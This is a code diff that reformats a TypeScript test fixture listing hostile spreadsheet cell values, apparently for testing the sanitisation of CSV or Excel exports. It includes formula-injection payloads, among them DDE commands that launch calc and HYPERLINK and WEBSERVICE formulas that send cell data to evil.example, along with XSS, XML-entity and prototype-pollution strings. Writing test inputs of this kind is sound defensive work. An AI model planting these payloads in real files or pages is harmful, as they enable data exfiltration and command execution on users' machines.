@@ -4,51 +4,20 @@ export function hostileCells(): string[] {
 }
 
 const payloads = [
-  '1+1',
-  "cmd|'/C calc'!A0",
-  'HYPERLINK("http://evil.example/?"&A1,"看")',
-  "SUM(A1:A9)*cmd|' /C calc'!A0",
-  'WEBSERVICE("http://evil.example")',
-  'DDE("cmd";"/C calc";"x")',
+  ...['1+1', "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"看")'],
+  ...["SUM(A1:A9)*cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example")', 'DDE("cmd";"/C calc";"x")'],
   '{1,2}',
 ]
 const leads = [
-  '=',
-  '+',
-  '-',
-  '@',
-  '＝',
-  '＋',
-  '－',
-  '＠',
-  "'=",
-  ' =',
-  '\t=',
-  '\n=',
-  '"=',
-  '=-',
-  '\u00a0=',
-  '\ufeff=',
-  '%=',
-  ';=',
+  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", ' =', '\t=', '\n=', '"=', '=-', '\u00a0='],
+  ...['\ufeff=', '%=', ';='],
 ]
 const formulas = leads.flatMap((lead) => payloads.map((payload) => `${lead}${payload}`))
 
 const markup = [
-  '<b>x</b>',
-  '</t></is></c><c r="A1"><f>1+1</f><v>2</v></c>',
-  '<f>1+1</f>',
-  '<script>alert(1)</script>',
-  '<!--',
-  '-->',
-  '<![CDATA[x]]>',
-  ']]>',
-  '&amp;',
-  '&#0;',
-  '&lt;f&gt;',
-  '<?xml version="1.0"?>',
-  '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
-  '"><img src=x onerror=alert(1)>',
+  ...['<b>x</b>', '</t></is></c><c r="A1"><f>1+1</f><v>2</v></c>', '<f>1+1</f>'],
+  ...['<script>alert(1)</script>', '<!--', '-->', '<![CDATA[x]]>', ']]>', '&amp;', '&#0;', '&lt;f&gt;'],
+  ...['<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY a "b">]>&a;', '"><img src=x onerror=alert(1)>'],
 ]
 
 /** Every control character but NUL, which no CSV reader takes, alone and within a text; noncharacters too. */
@@ -90,45 +59,15 @@ const scripts = [
 ]
 
 const digits = [
-  '913101156073788111',
-  '91110108MA0074PN30',
-  '11010519491231002X',
-  '00123',
-  '1e5',
-  '12e34',
-  '1/2',
-  '2024-02-29',
-  '3-4',
-  '1,234.50',
-  '50%',
-  '￥100',
-  'TRUE',
-  'false',
-  '#REF!',
-  '#N/A',
-  'NaN',
-  '-Infinity',
-  '6222021234567890123',
-  '13800138000',
-  '１２３４５６７８９０１２',
+  ...['913101156073788111', '91110108MA0074PN30', '11010519491231002X', '00123', '1e5', '12e34', '1/2'],
+  ...['2024-02-29', '3-4', '1,234.50', '50%', '￥100', 'TRUE', 'false', '#REF!', '#N/A', 'NaN'],
+  ...['-Infinity', '6222021234567890123', '13800138000', '１２３４５６７８９０１２'],
   '（2023）京0108民初1024号',
 ]
 
 const escapes = [
-  '_x0041_',
-  '_x0041_x0042_',
-  '_x005F_',
-  '_x005F_x0041_',
-  '_x0041\u0001',
-  '_x000d_',
-  '__x0041__',
-  '_x004_',
-  '__proto__',
-  'constructor',
-  'toString',
-  'hasOwnProperty',
-  '\\u0000\\n',
-  '%00%0a',
+  ...['_x0041_', '_x0041_x0042_', '_x005F_', '_x005F_x0041_', '_x0041\u0001', '_x000d_', '__x0041__'],
+  ...['_x004_', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '\\u0000\\n', '%00%0a'],
 ]
 
 const long = ['名'.repeat(100), 'x'.repeat(300), '长'.repeat(32_767), `=${'1'.repeat(32_765)}`]
